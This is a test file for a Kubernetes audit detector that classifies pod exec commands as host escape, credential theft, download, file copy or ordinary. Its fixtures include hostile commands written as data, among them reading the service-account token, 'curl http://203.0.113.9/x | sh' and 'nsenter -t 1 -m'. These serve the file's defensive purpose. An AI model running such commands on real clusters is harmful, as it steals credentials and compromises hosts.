import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { judgeEphemeralContainers, newEphemeralContainersOf } from '../../core/k8s-audit/ephemeral-container.ts';
import { type ExecKind, execFinding, execOf } from '../../core/k8s-audit/exec.ts';
import { nodeDebugPodOf } from '../../core/k8s-audit/node-debug.ts';
import { type AuditEvent, auditEventSchema } from '../../core/k8s-audit/schema.ts';

const KINDS: readonly ExecKind[] = [
  'host-escape',
  'reverse-shell',
  'credential-theft',
  'download',
  'file-copy',
  'ordinary',
];
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

function exec(query: string, more: object = {}): AuditEvent {
  return auditEventSchema.parse({
    verb: 'get',
    requestURI: `/api/v1/namespaces/shop/pods/web-1/exec${query}`,
    objectRef: { resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-1' },
    responseStatus: { code: 101 },
    ...more,
  });
}

describe('execOf', () => {
  it('reads the words of the command from the query, decoded once and in their order', () => {
    const { command } = execOf(exec('?command=sh&command=-c&container=app&command=echo+%2541%3D1&stdin=true'));
    expect(command).toEqual(['sh', '-c', 'echo %41=1']);
  });

  it('reads the command from the body where the query has none', () => {
    expect(execOf(exec('', { requestObject: { command: ['cat', TOKEN] } })).kind).toBe('credential-theft');
    expect(execOf(exec('?command=ls', { requestObject: { command: ['cat', TOKEN] } })).kind).toBe('ordinary');
  });

  it('reads flags as the API server does', () => {
    for (const value of ['true', '1', '', 'yes'])
      expect(execOf(exec(`?stdin=${value}&tty=${value}`)).hasInput).toBe(true);
    for (const value of ['false', '0', 'FALSE']) expect(execOf(exec(`?stdin=${value}`)).hasInput).toBe(false);
  });

  it('calls nothing a copy that has no stream to go through', () => {
    expect(execOf(exec('?command=tar&command=cf&command=-&command=/app&stdout=true')).kind).toBe('file-copy');
    expect(execOf(exec('?command=tar&command=cf&command=-&command=/app')).kind).toBe('ordinary');
    expect(execOf(exec('?command=tar&command=xf&command=-&stdout=true&stdin=true')).kind).toBe('file-copy');
    expect(execOf(exec('?command=tar&command=xf&command=-&stdout=true')).kind).toBe('ordinary');
  });

  it('lets the worst that a command betrays decide who speaks', () => {
    const script = encodeURIComponent(`env; cat ${TOKEN}; curl http://203.0.113.9/x; nsenter -t 1 -m`);
    expect(execOf(exec(`?command=sh&command=-c&command=${script}`)).kind).toBe('host-escape');
  });
});

describe('execFinding', () => {
  it('is given by exactly one detector, whatever the request holds', () => {
    const word = fc.oneof(
      fc.constantFrom(
        'cat',
        'sh',
        '-c',
        TOKEN,
        'tar',
        'cf',
        '-',
        'nsenter',
        'curl http://203.0.113.9/x | sh',
        '%',
        '&',
      ),
      fc.string(),
    );
    const query = fc.array(fc.tuple(fc.constantFrom('command', 'stdin', 'tty', 'stdout', 'container'), word));
    fc.assert(
      fc.property(query, fc.boolean(), fc.anything(), (parameters, isEncoded, requestObject) => {
        const text = parameters.map(([name, value]) => `${name}=${isEncoded ? encodeURIComponent(value) : value}`);
        const event = exec(`?${text.join('&')}`, { requestObject });
        expect(KINDS.filter((kind) => execFinding(event, kind) !== undefined)).toHaveLength(1);
      }),
    );
  });

  it('rates a node that acts as somebody else like a node', () => {
    const node = 'system:node:ip-10-0-41-8.eu-west-1.compute.internal';
    const event = exec('?command=id', { user: { username: node }, impersonatedUser: { username: 'ana' } });
    expect(execFinding(event, 'ordinary')?.severity).toBe('high');
  });

  it('never shows what a command carries in secret', () => {
    const query = '?command=mysql&command=--password%3Dhunter2hunter2&command=-e&command=select+1';
    expect(JSON.stringify(execFinding(exec(query), 'ordinary'))).not.toContain('hunter2');
  });
});

describe('bodies of any shape', () => {
  it('are judged without a fault', () => {
    fc.assert(
      fc.property(fc.anything(), fc.anything(), (requestObject, responseObject) => {
        const event = auditEventSchema.parse({
          verb: 'create',
          objectRef: { resource: 'pods', namespace: 'shop' },
          responseStatus: { code: 201 },
          requestObject: { spec: requestObject },
          responseObject: { spec: responseObject, status: requestObject },
        });
        nodeDebugPodOf(event);
        judgeEphemeralContainers(event, newEphemeralContainersOf(event));
      }),
    );
  });
});
